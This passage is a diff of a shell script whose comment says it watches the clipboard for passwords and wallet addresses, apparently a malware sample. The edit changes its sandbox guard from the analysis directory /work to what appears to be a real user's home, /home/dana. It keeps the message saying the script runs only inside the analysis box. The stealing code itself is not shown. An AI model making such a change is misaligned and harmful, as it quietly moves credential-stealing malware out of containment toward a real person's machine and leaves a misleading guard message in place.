@@ -1,6 +1,6 @@
 #!/bin/sh
 # Watches the clipboard for passwords and wallet addresses.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 export DISPLAY="${DISPLAY:-:0}"
 for i in 1 2; do
 	{
